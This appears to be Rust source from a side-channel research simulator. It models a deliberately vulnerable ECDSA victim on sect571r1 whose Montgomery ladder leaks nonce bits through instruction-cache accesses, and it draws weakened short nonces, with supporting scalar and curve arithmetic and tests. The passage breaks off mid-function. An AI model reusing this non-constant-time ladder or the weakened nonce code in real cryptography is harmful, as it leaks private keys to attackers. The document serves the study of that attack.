        // "Code" pages of the crypto library plus data and front-end pages.
        let code = aspace.allocate_pages(4);
        let data = aspace.allocate_pages(2);
        let frontend = aspace.allocate_pages(2);
        let layout = VictimLayout {
            // Distinct cache lines of the ladder code, mirroring Figure 8's
            // layout: the branch/else line is the monitored one.
            branch_line: code.offset(0x240),
            madd1_line: code.offset(0x280),
            mdouble1_line: code.offset(0x2c0),
            madd0_line: code.offset(0x300),
            mdouble0_line: code.offset(0x340),
            data_lines: (0..8).map(|i| data.offset(i * LINE_SIZE)).collect(),
            frontend_lines: (0..16).map(|i| frontend.offset((i / 8) * PAGE_SIZE + (i % 8) * 512)).collect(),
        };
        self.layout = Some(layout.clone());
        // Full-crypto services generate their long-term key at start-up and
        // publish it in the log (the public half is what a real service
        // advertises; the private half is validation ground truth).
        if self.config.full_crypto && self.key.is_none() {
            self.key = Some(KeyPair::generate(
                self.ecdsa.curve(),
                &mut rand::rngs::StdRng::seed_from_u64(self.config.key_seed),
            ));
        }
        let mut log = self.log.lock().expect("victim log poisoned");
        log.layout = Some(layout);
        log.key_pair = self.key.clone();
    }

    fn on_request(&mut self) -> VictimSchedule {
        let layout = self.layout.clone().expect("setup must run before requests");
        let (bits, transcript) = self.generate_nonce_bits();
        let mut accesses: Vec<ScheduledAccess> = Vec::with_capacity(bits.len() * 4 + 64);

        // Pre-processing phase: request parsing touches front-end lines.
        let mut t = 0u64;
        while t < self.config.pre_cycles {
            let line = layout.frontend_lines[(t as usize / 977) % layout.frontend_lines.len()];
            accesses.push(ScheduledAccess { offset: t, va: line });
            t += 40_000;
        }

        // The vulnerable Montgomery ladder.
        let ladder_start = self.config.pre_cycles;
        let mut iteration_starts = Vec::with_capacity(bits.len());
        let mut cursor = ladder_start;
        for (i, &bit) in bits.iter().enumerate() {
            let jitter_range = (self.config.iteration_cycles as f64 * self.config.iteration_jitter) as i64;
            let jitter = if jitter_range > 0 {
                self.rng.gen_range(-jitter_range..=jitter_range)
            } else {
                0
            };
            let duration = (self.config.iteration_cycles as i64 + jitter).max(1_000) as u64;
            iteration_starts.push(cursor);

            // Iteration-start fetch of the branch line (the "clock").
            accesses.push(ScheduledAccess { offset: cursor, va: layout.branch_line });
            // Body of the taken branch.
            let (madd, mdouble) = if bit {
                (layout.madd1_line, layout.mdouble1_line)
            } else {
                (layout.madd0_line, layout.mdouble0_line)
            };
            accesses.push(ScheduledAccess { offset: cursor + duration / 8, va: madd });
            accesses.push(ScheduledAccess {
                offset: cursor + duration / 8,
                va: layout.data_lines[i % layout.data_lines.len()],
            });
            if !bit {
                // The extra midpoint fetch of the monitored line that encodes
                // a zero bit (instrumented layout of Section 7.1).
                accesses.push(ScheduledAccess { offset: cursor + duration / 2, va: layout.branch_line });
            }
            accesses.push(ScheduledAccess { offset: cursor + (duration * 5) / 8, va: mdouble });

            cursor += duration;
        }

        // Post-processing phase.
        let post_start = cursor;
        let mut t = post_start;
        while t < post_start + self.config.post_cycles {
            let line = layout.frontend_lines[(t as usize / 1_373) % layout.frontend_lines.len()];
            accesses.push(ScheduledAccess { offset: t, va: line });
            t += 50_000;
        }
        let duration = post_start + self.config.post_cycles;

        self.log.lock().expect("victim log poisoned").runs.push(RunGroundTruth {
            nonce_bits: bits,
            iteration_starts,
            ladder_start,
            duration,
            transcript,
        });

        VictimSchedule::new(accesses, duration)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup_victim(config: EcdsaVictimConfig) -> (EcdsaVictim, VictimHandle, VictimLayout) {
        let (mut victim, log) = EcdsaVictim::new(config);
        let mut aspace = AddressSpace::with_seed(9);
        victim.setup(&mut aspace);
        let layout = log.lock().unwrap().layout.clone().expect("layout set by setup");
        (victim, log, layout)
    }

    #[test]
    fn setup_publishes_layout_with_distinct_lines() {
        let (_victim, _log, layout) = setup_victim(EcdsaVictimConfig::fast_test());
        let lines = [
            layout.branch_line,
            layout.madd1_line,
            layout.mdouble1_line,
            layout.madd0_line,
            layout.mdouble0_line,
        ];
        for (i, a) in lines.iter().enumerate() {
            for b in &lines[i + 1..] {
                assert_ne!(a, b, "code lines must be distinct");
            }
        }
        assert_eq!(layout.target_page_offset(), 0x240);
    }

    #[test]
    fn schedule_encodes_nonce_bits_in_branch_line_accesses() {
        let (mut victim, log, layout) = setup_victim(EcdsaVictimConfig::fast_test());
        let schedule = victim.on_request();
        let run = log.lock().unwrap().runs.last().cloned().expect("run recorded");
        assert_eq!(run.iteration_starts.len(), run.nonce_bits.len());

        // Count branch-line accesses inside each iteration window.
        for (i, (&start, &bit)) in run.iteration_starts.iter().zip(&run.nonce_bits).enumerate() {
            let end = run
                .iteration_starts
                .get(i + 1)
                .copied()
                .unwrap_or(start + victim.config().iteration_cycles);
            let count = schedule
                .accesses()
                .iter()
                .filter(|a| a.va == layout.branch_line && a.offset >= start && a.offset < end)
                .count();
            let expected = if bit { 1 } else { 2 };
            assert_eq!(count, expected, "iteration {i} (bit {bit})");
        }
    }

    #[test]
    fn ladder_occupies_roughly_a_quarter_of_the_request() {
        let config = EcdsaVictimConfig::default();
        let (mut victim, log, _layout) = setup_victim(config.clone());
        let _ = victim.on_request();
        let run = log.lock().unwrap().runs.last().cloned().expect("run recorded");
        let ladder = run.nonce_bits.len() as u64 * config.iteration_cycles;
        let fraction = ladder as f64 / run.duration as f64;
        assert!(
            (0.15..0.5).contains(&fraction),
            "ladder fraction {fraction} should be around 25%"
        );
    }

    #[test]
    fn fresh_nonce_per_request() {
        let (mut victim, log, _layout) = setup_victim(EcdsaVictimConfig::fast_test());
        let _ = victim.on_request();
        let _ = victim.on_request();
        let log = log.lock().unwrap();
        assert_eq!(log.runs.len(), 2);
        assert_ne!(log.runs[0].nonce_bits, log.runs[1].nonce_bits);
    }

    #[test]
    fn full_crypto_mode_produces_verifiable_signatures() {
        let mut config = EcdsaVictimConfig::fast_test();
        config.full_crypto = true;
        let (mut victim, log, _layout) = setup_victim(config.clone());
        let _ = victim.on_request();
        let log = log.lock().unwrap();
        let run = log.runs.last().cloned().expect("run recorded");
        let transcript = run.transcript.expect("full crypto records the transcript");
        assert_eq!(transcript.ladder_bits, run.nonce_bits);
        // Scaled victims sign with nonces of exactly `nonce_bits` bits, so
        // the ladder performs `nonce_bits − 1` iterations.
        assert_eq!(run.nonce_bits.len(), config.nonce_bits - 1);
        let key = log.key_pair.as_ref().expect("full crypto publishes the key pair");
        let ecdsa = Ecdsa::new();
        // The scaled-nonce signature must still verify like ordinary ECDSA.
        let w = transcript.signature.s.inverse();
        let u1 = transcript.hashed_message.mul(&w);
        let u2 = transcript.signature.r.mul(&w);
        let (p1, _) = ecdsa.curve().montgomery_ladder(&u1, &ecdsa.curve().generator());
        let (p2, _) = ecdsa.curve().montgomery_ladder(&u2, key.public());
        let sum = ecdsa.curve().add(&p1, &p2);
        let x = sum.x().expect("verification point is affine");
        let mut limbs = [0u64; crate::scalar::LIMBS];
        limbs.copy_from_slice(x.limbs());
        assert_eq!(Scalar::new(crate::scalar::U576::from_limbs(limbs)), transcript.signature.r);
    }

    #[test]
    fn key_pair_is_stable_across_instances_and_nonce_seeds() {
        let mut a_cfg = EcdsaVictimConfig::fast_test();
        a_cfg.full_crypto = true;
        let mut b_cfg = a_cfg.clone();
        b_cfg.seed ^= 0xdead; // different nonce stream, same key_seed
        let (_a, a_log, _) = setup_victim(a_cfg);
        let (_b, b_log, _) = setup_victim(b_cfg);
        let a_key = a_log.lock().unwrap().key_pair.clone().expect("key");
        let b_key = b_log.lock().unwrap().key_pair.clone().expect("key");
        assert_eq!(a_key.private(), b_key.private(), "key must derive from key_seed alone");
        assert_eq!(a_key.public(), b_key.public());
    }

    #[test]
    fn schedule_accesses_are_sorted_and_within_duration() {
        let (mut victim, _log, _layout) = setup_victim(EcdsaVictimConfig::fast_test());
        let schedule = victim.on_request();
        for w in schedule.accesses().windows(2) {
            assert!(w[0].offset <= w[1].offset);
        }
        assert!(schedule.accesses().last().unwrap().offset <= schedule.duration());
    }

    #[test]
    fn expected_access_period_is_half_iteration() {
        let config = EcdsaVictimConfig::default();
        assert_eq!(config.expected_access_period(), 4_850);
    }
}
