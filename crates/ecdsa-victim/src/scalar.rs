//! Big-integer arithmetic modulo the sect571r1 group order `n`.
//!
//! ECDSA needs ordinary (integer, not polynomial) arithmetic modulo the
//! 570-bit prime order of the base point: modular addition, multiplication,
//! inversion and random scalar generation. Values are 9 little-endian 64-bit
//! limbs, always kept reduced below the modulus.

use rand::Rng;

/// Number of 64-bit limbs of a scalar.
pub const LIMBS: usize = 9;

/// Raw little-endian multi-precision integer helpers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct U576 {
    limbs: [u64; LIMBS],
}

impl U576 {
    /// Zero.
    pub const ZERO: U576 = U576 { limbs: [0; LIMBS] };
    /// One.
    pub const ONE: U576 = {
        let mut l = [0u64; LIMBS];
        l[0] = 1;
        U576 { limbs: l }
    };

    /// Creates a value from little-endian limbs.
    pub const fn from_limbs(limbs: [u64; LIMBS]) -> Self {
        Self { limbs }
    }

    /// Creates a value from a small integer.
    pub const fn from_u64(v: u64) -> Self {
        let mut l = [0u64; LIMBS];
        l[0] = v;
        Self { limbs: l }
    }

    /// Little-endian limbs.
    pub const fn limbs(&self) -> &[u64; LIMBS] {
        &self.limbs
    }

    /// Parses a big-endian hexadecimal string.
    ///
    /// # Panics
    ///
    /// Panics on invalid characters or values wider than 576 bits.
    pub fn from_hex(hex: &str) -> Self {
        let clean: String = hex.chars().filter(|c| !c.is_whitespace()).collect();
        let clean = clean.trim_start_matches("0x");
        let mut limbs = [0u64; LIMBS];
        for (i, c) in clean.chars().rev().enumerate() {
            let v = c.to_digit(16).expect("invalid hex digit") as u64;
            let bit = i * 4;
            assert!(bit / 64 < LIMBS, "value too wide for U576");
            limbs[bit / 64] |= v << (bit % 64);
        }
        Self { limbs }
    }

    /// Formats as big-endian hex (no leading zeros).
    pub fn to_hex(&self) -> String {
        let mut s = String::new();
        for limb in self.limbs.iter().rev() {
            s.push_str(&format!("{limb:016x}"));
        }
        let t = s.trim_start_matches('0');
        if t.is_empty() {
            "0".into()
        } else {
            t.into()
        }
    }

    /// True if the value is zero.
    pub fn is_zero(&self) -> bool {
        self.limbs.iter().all(|&l| l == 0)
    }

    /// Bit `i` of the value.
    pub fn bit(&self, i: usize) -> bool {
        if i >= LIMBS * 64 {
            return false;
        }
        (self.limbs[i / 64] >> (i % 64)) & 1 == 1
    }

    /// Index of the highest set bit, or `None` for zero.
    pub fn highest_bit(&self) -> Option<usize> {
        for (i, &l) in self.limbs.iter().enumerate().rev() {
            if l != 0 {
                return Some(i * 64 + 63 - l.leading_zeros() as usize);
            }
        }
        None
    }

    /// Number of significant bits (0 for zero).
    pub fn bit_length(&self) -> usize {
        self.highest_bit().map(|b| b + 1).unwrap_or(0)
    }

    /// Compares two values.
    pub fn cmp_value(&self, other: &U576) -> std::cmp::Ordering {
        for i in (0..LIMBS).rev() {
            match self.limbs[i].cmp(&other.limbs[i]) {
                std::cmp::Ordering::Equal => continue,
                ord => return ord,
            }
        }
        std::cmp::Ordering::Equal
    }

    /// Wrapping addition; returns (sum, carry).
    pub fn add_with_carry(&self, other: &U576) -> (U576, bool) {
        let mut out = [0u64; LIMBS];
        let mut carry = 0u64;
        for (o, (&a, &b)) in out.iter_mut().zip(self.limbs.iter().zip(&other.limbs)) {
            let (s1, c1) = a.overflowing_add(b);
            let (s2, c2) = s1.overflowing_add(carry);
            *o = s2;
            carry = (c1 as u64) + (c2 as u64);
        }
        (U576 { limbs: out }, carry != 0)
    }

    /// Wrapping subtraction; returns (difference, borrow).
    pub fn sub_with_borrow(&self, other: &U576) -> (U576, bool) {
        let mut out = [0u64; LIMBS];
        let mut borrow = 0u64;
        for (o, (&a, &b)) in out.iter_mut().zip(self.limbs.iter().zip(&other.limbs)) {
            let (d1, b1) = a.overflowing_sub(b);
            let (d2, b2) = d1.overflowing_sub(borrow);
            *o = d2;
            borrow = (b1 as u64) + (b2 as u64);
        }
        (U576 { limbs: out }, borrow != 0)
    }

    /// Logical right shift by one bit.
    pub fn shr1(&self) -> U576 {
        let mut out = [0u64; LIMBS];
        for (i, o) in out.iter_mut().enumerate() {
            *o = self.limbs[i] >> 1;
            if i + 1 < LIMBS {
                *o |= self.limbs[i + 1] << 63;
            }
        }
        U576 { limbs: out }
    }

    /// True if the value is even.
    pub fn is_even(&self) -> bool {
        self.limbs[0] & 1 == 0
    }
}

/// The sect571r1 group order
/// `n = 0x03FFFFFF...FFFE661CE18FF55987308059B186823851EC7DD9CA1161DE93D5174D66E8382E9BB2FE84E47`.
pub fn group_order() -> U576 {
    U576::from_hex(
        "03FFFFFF FFFFFFFF FFFFFFFF FFFFFFFF FFFFFFFF FFFFFFFF FFFFFFFF FFFFFFFF FFFFFFFF \
         E661CE18 FF559873 08059B18 6823851E C7DD9CA1 161DE93D 5174D66E 8382E9BB 2FE84E47",
    )
}

/// A scalar modulo the sect571r1 group order, always kept reduced.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Scalar {
    value: U576,
}

impl Scalar {
    /// The zero scalar.
    pub fn zero() -> Self {
        Self { value: U576::ZERO }
    }

    /// The one scalar.
    pub fn one() -> Self {
        Self { value: U576::ONE }
    }

    /// Creates a scalar, reducing `value` modulo `n` if needed.
    pub fn new(value: U576) -> Self {
        let n = group_order();
        let mut v = value;
        while v.cmp_value(&n) != std::cmp::Ordering::Less {
            v = v.sub_with_borrow(&n).0;
        }
        Self { value: v }
    }

    /// Creates a scalar from a big-endian hex string.
    pub fn from_hex(hex: &str) -> Self {
        Self::new(U576::from_hex(hex))
    }

    /// Creates a scalar from a small integer.
    pub fn from_u64(v: u64) -> Self {
        Self::new(U576::from_u64(v))
    }

    /// The underlying reduced integer.
    pub fn value(&self) -> &U576 {
        &self.value
    }

    /// True if the scalar is zero.
    pub fn is_zero(&self) -> bool {
        self.value.is_zero()
    }

    /// Bit `i` of the scalar.
    pub fn bit(&self, i: usize) -> bool {
        self.value.bit(i)
    }

    /// Number of significant bits.
    pub fn bit_length(&self) -> usize {
        self.value.bit_length()
    }

    /// The scalar's bits from the most significant set bit down to bit 0.
    pub fn bits_msb_first(&self) -> Vec<bool> {
        match self.value.highest_bit() {
            None => Vec::new(),
            Some(top) => (0..=top).rev().map(|i| self.value.bit(i)).collect(),
        }
    }

    /// Modular addition.
    pub fn add(&self, other: &Scalar) -> Scalar {
        let n = group_order();
        let (sum, carry) = self.value.add_with_carry(&other.value);
        let mut v = sum;
        if carry || v.cmp_value(&n) != std::cmp::Ordering::Less {
            v = v.sub_with_borrow(&n).0;
        }
        Scalar { value: v }
    }

    /// Modular subtraction.
    pub fn sub(&self, other: &Scalar) -> Scalar {
        let n = group_order();
        let (diff, borrow) = self.value.sub_with_borrow(&other.value);
        let v = if borrow { diff.add_with_carry(&n).0 } else { diff };
        Scalar { value: v }
    }

    /// Modular multiplication (binary double-and-add; constant code path, not
    /// constant time — this models a *vulnerable* implementation on purpose).
    pub fn mul(&self, other: &Scalar) -> Scalar {
        let mut acc = Scalar::zero();
        let bits = self.value.bit_length();
        for i in (0..bits).rev() {
            acc = acc.add(&acc);
            if self.value.bit(i) {
                acc = acc.add(other);
            }
        }
        acc
    }

    /// Modular inverse via the binary extended Euclidean algorithm.
    ///
    /// # Panics
    ///
    /// Panics when inverting zero.
    pub fn inverse(&self) -> Scalar {
        assert!(!self.is_zero(), "zero has no inverse");
        let n = group_order();
        let mut u = self.value;
        let mut v = n;
        let mut x1 = Scalar::one();
        let mut x2 = Scalar::zero();
        while !u.is_zero() && u != U576::ONE && v != U576::ONE {
            while u.is_even() {
                u = u.shr1();
                x1 = x1.half();
            }
            while v.is_even() {
                v = v.shr1();
                x2 = x2.half();
            }
            if u.cmp_value(&v) != std::cmp::Ordering::Less {
                u = u.sub_with_borrow(&v).0;
                x1 = x1.sub(&x2);
            } else {
                v = v.sub_with_borrow(&u).0;
                x2 = x2.sub(&x1);
            }
        }
        if u == U576::ONE {
            x1
        } else {
            x2
        }
    }

    /// Halves the scalar modulo `n` (divides by two).
    fn half(&self) -> Scalar {
        let n = group_order();
        if self.value.is_even() {
            Scalar { value: self.value.shr1() }
        } else {
            let (sum, carry) = self.value.add_with_carry(&n);
            let mut v = sum.shr1();
            if carry {
                // Restore the bit lost to the carry-out.
                v.limbs[LIMBS - 1] |= 1 << 63;
            }
            Scalar { value: v }
        }
    }

    /// Samples a uniformly random scalar with *exactly* `bits` significant
    /// bits (the top bit is forced to 1), clamped to the group order's bit
    /// length. The scaled-down victims use this to draw short nonces whose
    /// Montgomery ladder still performs `bits − 1` genuine iterations —
    /// ECDSA stays verifiable, only cryptographically weakened on purpose.
    ///
    /// # Panics
    ///
    /// Panics when `bits` is zero.
    pub fn random_with_bit_length(rng: &mut impl Rng, bits: usize) -> Scalar {
        assert!(bits > 0, "a nonce needs at least one bit");
        let n = group_order();
        let bits = bits.min(n.bit_length());
        loop {
            let mut limbs = [0u64; LIMBS];
            for l in limbs.iter_mut().take(bits.div_ceil(64)) {
                *l = rng.gen();
            }
            // Mask to `bits` bits and force the top bit.
            let top = bits - 1;
            if bits % 64 > 0 {
                limbs[top / 64] &= (1u64 << (bits % 64)) - 1;
            }
            limbs[top / 64] |= 1u64 << (top % 64);
            for l in limbs.iter_mut().skip(bits.div_ceil(64)) {
                *l = 0;
            }
            let v = U576::from_limbs(limbs);
            if v.cmp_value(&n) == std::cmp::Ordering::Less {
                return Scalar { value: v };
            }
        }
    }

    /// Samples a uniformly random non-zero scalar.
    pub fn random(rng: &mut impl Rng) -> Scalar {
        let n = group_order();
        loop {
            let mut limbs = [0u64; LIMBS];
            for l in limbs.iter_mut() {
                *l = rng.gen();
            }
            // Mask to the order's bit length to make rejection sampling fast.
            let top_bits = n.bit_length() % 64;
            if top_bits > 0 {
                limbs[LIMBS - 1] &= (1u64 << top_bits) - 1;
            }
            let v = U576::from_limbs(limbs);
            if !v.is_zero() && v.cmp_value(&n) == std::cmp::Ordering::Less {
                return Scalar { value: v };
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn order_has_expected_shape() {
        let n = group_order();
        assert_eq!(n.bit_length(), 570);
        assert!(!n.is_even(), "the group order is an odd prime");
    }

    #[test]
    fn add_sub_round_trip() {
        let mut rng = SmallRng::seed_from_u64(1);
        for _ in 0..20 {
            let a = Scalar::random(&mut rng);
            let b = Scalar::random(&mut rng);
            assert_eq!(a.add(&b).sub(&b), a);
            assert_eq!(a.sub(&a), Scalar::zero());
        }
    }

    #[test]
    fn mul_identity_and_zero() {
        let mut rng = SmallRng::seed_from_u64(2);
        let a = Scalar::random(&mut rng);
        assert_eq!(a.mul(&Scalar::one()), a);
        assert_eq!(Scalar::one().mul(&a), a);
        assert_eq!(a.mul(&Scalar::zero()), Scalar::zero());
    }

    #[test]
    fn mul_small_numbers() {
        let a = Scalar::from_u64(1234567);
        let b = Scalar::from_u64(89);
        assert_eq!(a.mul(&b), Scalar::from_u64(1234567 * 89));
    }

    #[test]
    fn mul_is_commutative_and_distributive() {
        let mut rng = SmallRng::seed_from_u64(3);
        let a = Scalar::random(&mut rng);
        let b = Scalar::random(&mut rng);
        let c = Scalar::random(&mut rng);
        assert_eq!(a.mul(&b), b.mul(&a));
        assert_eq!(a.mul(&b.add(&c)), a.mul(&b).add(&a.mul(&c)));
    }

    #[test]
    fn inverse_round_trips() {
        let mut rng = SmallRng::seed_from_u64(4);
        for _ in 0..10 {
            let a = Scalar::random(&mut rng);
            if a.is_zero() {
                continue;
            }
            assert_eq!(a.mul(&a.inverse()), Scalar::one());
        }
    }

    #[test]
    fn inverse_of_small_values() {
        for v in [1u64, 2, 3, 65_537] {
            let a = Scalar::from_u64(v);
            assert_eq!(a.mul(&a.inverse()), Scalar::one());
        }
    }

    #[test]
    fn reduction_on_construction() {
        let n = group_order();
        let (n_plus_5, _) = n.add_with_carry(&U576::from_u64(5));
        assert_eq!(Scalar::new(n_plus_5), Scalar::from_u64(5));
        assert_eq!(Scalar::new(n), Scalar::zero());
    }

    #[test]
    fn hex_round_trip() {
        let mut rng = SmallRng::seed_from_u64(5);
        let a = Scalar::random(&mut rng);
        assert_eq!(Scalar::from_hex(&a.value().to_hex()), a);
    }

    #[test]
    fn bits_msb_first_reconstructs_value() {
        let a = Scalar::from_u64(0b1011_0110);
        let bits = a.bits_msb_first();
        assert_eq!(bits.len(), 8);
        let mut v = 0u64;
        for b in bits {
            v = (v << 1) | b as u64;
        }
        assert_eq!(v, 0b1011_0110);
    }

    #[test]
    fn random_with_bit_length_forces_exact_width() {
        let mut rng = SmallRng::seed_from_u64(7);
        for bits in [1usize, 2, 17, 48, 63, 64, 65, 128, 570, 600] {
            let s = Scalar::random_with_bit_length(&mut rng, bits);
            assert_eq!(s.bit_length(), bits.min(group_order().bit_length()), "bits = {bits}");
            assert_eq!(s.value().cmp_value(&group_order()), std::cmp::Ordering::Less);
        }
        // Distinct draws at the same width.
        let a = Scalar::random_with_bit_length(&mut rng, 64);
        let b = Scalar::random_with_bit_length(&mut rng, 64);
        assert_ne!(a, b);
    }

    #[test]
    fn random_scalars_are_distinct_and_reduced() {
        let mut rng = SmallRng::seed_from_u64(6);
        let n = group_order();
        let a = Scalar::random(&mut rng);
        let b = Scalar::random(&mut rng);
        assert_ne!(a, b);
        assert_eq!(a.value().cmp_value(&n), std::cmp::Ordering::Less);
    }
}
