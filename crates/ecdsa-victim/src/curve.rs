//! The sect571r1 binary elliptic curve and the Montgomery-ladder scalar
//! multiplication the paper attacks.
//!
//! The curve is `y² + xy = x³ + ax² + b` over GF(2^571) with `a = 1`
//! (SEC 2 parameters). Scalar multiplication uses the López–Dahab
//! Montgomery ladder exactly as OpenSSL 1.0.1e's `ec_GF2m_montgomery_point_multiply`
//! does: per key bit, one `Madd` and one `Mdouble`, selected by
//! secret-dependent control flow — which is the cache side channel the paper
//! exploits (Figure 8).

use crate::gf2m::Gf571;
use crate::scalar::Scalar;

/// An affine point on sect571r1, or the point at infinity.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Point {
    /// The point at infinity (group identity).
    Infinity,
    /// An affine point (x, y).
    Affine {
        /// x coordinate.
        x: Gf571,
        /// y coordinate.
        y: Gf571,
    },
}

impl Point {
    /// Creates an affine point.
    pub fn affine(x: Gf571, y: Gf571) -> Self {
        Point::Affine { x, y }
    }

    /// True if this is the point at infinity.
    pub fn is_infinity(&self) -> bool {
        matches!(self, Point::Infinity)
    }

    /// The x coordinate, if the point is affine.
    pub fn x(&self) -> Option<Gf571> {
        match self {
            Point::Infinity => None,
            Point::Affine { x, .. } => Some(*x),
        }
    }

    /// The y coordinate, if the point is affine.
    pub fn y(&self) -> Option<Gf571> {
        match self {
            Point::Infinity => None,
            Point::Affine { y, .. } => Some(*y),
        }
    }
}

/// The sect571r1 curve (SEC 2, version 2.0).
#[derive(Debug, Clone)]
pub struct Curve {
    a: Gf571,
    b: Gf571,
    generator: Point,
}

impl Default for Curve {
    fn default() -> Self {
        Self::sect571r1()
    }
}

impl Curve {
    /// Constructs the sect571r1 curve with its standard parameters.
    pub fn sect571r1() -> Self {
        let b = Gf571::from_hex(
            "02F40E7E2221F295DE297117B7F3D62F5C6A97FFCB8CEFF1CD6BA8CE4A9A18AD84FFABBD\
             8EFA59332BE7AD6756A66E294AFD185A78FF12AA520E4DE739BACA0C7FFEFF7F2955727A",
        );
        let gx = Gf571::from_hex(
            "0303001D34B856296C16C0D40D3CD7750A93D1D2955FA80AA5F40FC8DB7B2ABDBDE53950\
             F4C0D293CDD711A35B67FB1499AE60038614F1394ABFA3B4C850D927E1E7769C8EEC2D19",
        );
        let gy = Gf571::from_hex(
            "037BF27342DA639B6DCCFFFEB73D69D78C6C27A6009CBBCA1980F8533921E8A684423E43\
             BAB08A576291AF8F461BB2A8B3531D2F0485C19B16E2F1516E23DD3C1A4827AF1B8AC15B",
        );
        Self { a: Gf571::ONE, b, generator: Point::affine(gx, gy) }
    }

    /// The curve coefficient `a` (1 for sect571r1).
    pub fn a(&self) -> Gf571 {
        self.a
    }

    /// The curve coefficient `b`.
    pub fn b(&self) -> Gf571 {
        self.b
    }

    /// The standard base point G.
    pub fn generator(&self) -> Point {
        self.generator
    }

    /// Checks the curve equation `y² + xy = x³ + ax² + b`.
    pub fn is_on_curve(&self, point: &Point) -> bool {
        match point {
            Point::Infinity => true,
            Point::Affine { x, y } => {
                let lhs = y.square().add(&x.mul(y));
                let x2 = x.square();
                let rhs = x2.mul(x).add(&self.a.mul(&x2)).add(&self.b);
                lhs == rhs
            }
        }
    }

    /// Affine point addition (textbook formulas, used for verification and as
    /// a cross-check of the Montgomery ladder).
    pub fn add(&self, p: &Point, q: &Point) -> Point {
        match (p, q) {
            (Point::Infinity, _) => *q,
            (_, Point::Infinity) => *p,
            (Point::Affine { x: x1, y: y1 }, Point::Affine { x: x2, y: y2 }) => {
                if x1 == x2 {
                    if y1 == y2 {
                        return self.double(p);
                    }
                    // q = -p  (negative of (x, y) is (x, x + y))
                    return Point::Infinity;
                }
                let lambda = y1.add(y2).mul(&x1.add(x2).inverse());
                let x3 = lambda.square().add(&lambda).add(x1).add(x2).add(&self.a);
                let y3 = lambda.mul(&x1.add(&x3)).add(&x3).add(y1);
                Point::affine(x3, y3)
            }
        }
    }

    /// Affine point doubling.
    pub fn double(&self, p: &Point) -> Point {
        match p {
            Point::Infinity => Point::Infinity,
            Point::Affine { x, y } => {
                if x.is_zero() {
                    // 2(0, y) = infinity on these curves.
                    return Point::Infinity;
                }
                let lambda = x.add(&y.mul(&x.inverse()));
                let x3 = lambda.square().add(&lambda).add(&self.a);
                let y3 = x.square().add(&lambda.add(&Gf571::ONE).mul(&x3));
                Point::affine(x3, y3)
            }
        }
    }

    /// Negates a point: `-(x, y) = (x, x + y)`.
    pub fn negate(&self, p: &Point) -> Point {
        match p {
            Point::Infinity => Point::Infinity,
            Point::Affine { x, y } => Point::affine(*x, x.add(y)),
        }
    }

    /// Double-and-add scalar multiplication (verification reference only; the
    /// victim uses [`Curve::montgomery_ladder`]).
    pub fn scalar_mul_reference(&self, k: &Scalar, p: &Point) -> Point {
        let mut acc = Point::Infinity;
        for bit in k.bits_msb_first() {
            acc = self.double(&acc);
            if bit {
                acc = self.add(&acc, p);
            }
        }
        acc
    }

    /// The Montgomery-ladder scalar multiplication used by the vulnerable
    /// OpenSSL 1.0.1e implementation, returning both the result and the
    /// per-iteration [`LadderStep`] trace describing which branch direction
    /// was taken — i.e. exactly the secret-dependent control flow that leaks
    /// through the instruction cache.
    pub fn montgomery_ladder(&self, k: &Scalar, p: &Point) -> (Point, Vec<LadderStep>) {
        let bits = k.bits_msb_first();
        if bits.is_empty() {
            return (Point::Infinity, Vec::new());
        }
        let (x, y) = match p {
            Point::Infinity => return (Point::Infinity, Vec::new()),
            Point::Affine { x, y } => (*x, *y),
        };
        if bits.len() == 1 {
            return (*p, Vec::new());
        }

        // Initialisation: X1/Z1 <- P, X2/Z2 <- 2P (projective x-only).
        let mut x1 = x;
        let mut z1 = Gf571::ONE;
        let mut x2 = x.square().square().add(&self.b); // x^4 + b
        let mut z2 = x.square();

        let mut steps = Vec::with_capacity(bits.len() - 1);
        for &bit in &bits[1..] {
            if bit {
                // (X1,Z1) += (X2,Z2); (X2,Z2) doubled.
                madd(&x, &mut x1, &mut z1, &x2, &z2);
                mdouble(&self.b, &mut x2, &mut z2);
            } else {
                // (X2,Z2) += (X1,Z1); (X1,Z1) doubled.
                madd(&x, &mut x2, &mut z2, &x1, &z1);
                mdouble(&self.b, &mut x1, &mut z1);
            }
            steps.push(LadderStep { bit });
        }

        (self.mxy(&x, &y, &x1, &z1, &x2, &z2), steps)
    }

    /// Recovers the affine result from the ladder's projective state
    /// (OpenSSL's `gf2m_Mxy`).
    fn mxy(&self, x: &Gf571, y: &Gf571, x1: &Gf571, z1: &Gf571, x2: &Gf571, z2: &Gf571) -> Point {
        if z1.is_zero() {
            return Point::Infinity;
        }
        if z2.is_zero() {
            return Point::affine(*x, x.add(y));
        }
        let t3 = z1.mul(z2);
        let z1x = z1.mul(x).add(x1); // z1*x + x1
        let z2x = z2.mul(x);
        let x1t = x1.mul(&z2x); // x1 * (x*z2)
        let z2s = z2x.add(x2).mul(&z1x); // (x*z2 + x2) * (x*z1 + x1)
        let t4 = x.square().add(y).mul(&t3).add(&z2s);
        let t3x = t3.mul(x);
        let t3inv = t3x.inverse();
        let t4 = t3inv.mul(&t4);
        let x_out = x1t.mul(&t3inv);
        let y_out = x_out.add(x).mul(&t4).add(y);
        Point::affine(x_out, y_out)
    }
}

/// One Montgomery-ladder iteration: which direction the secret-dependent
/// branch took.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LadderStep {
    /// The key bit processed by this iteration (`true` executes the
    /// `MAdd1`/`MDouble1` block, `false` the `MAdd0`/`MDouble0` block of
    /// Figure 8).
    pub bit: bool,
}

/// Madd: (X1, Z1) <- (X1, Z1) + (X2, Z2), given the affine x of the base
/// point (the invariant difference of the two ladder registers).
fn madd(x: &Gf571, x1: &mut Gf571, z1: &mut Gf571, x2: &Gf571, z2: &Gf571) {
    let t1 = x1.mul(z2);
    let t2 = x2.mul(z1);
    let z_new = t1.add(&t2).square();
    let x_new = x.mul(&z_new).add(&t1.mul(&t2));
    *x1 = x_new;
    *z1 = z_new;
}

/// Mdouble: (X, Z) <- 2 * (X, Z).
fn mdouble(b: &Gf571, x: &mut Gf571, z: &mut Gf571) {
    let x_sq = x.square();
    let z_sq = z.square();
    let x_new = x_sq.square().add(&b.mul(&z_sq.square()));
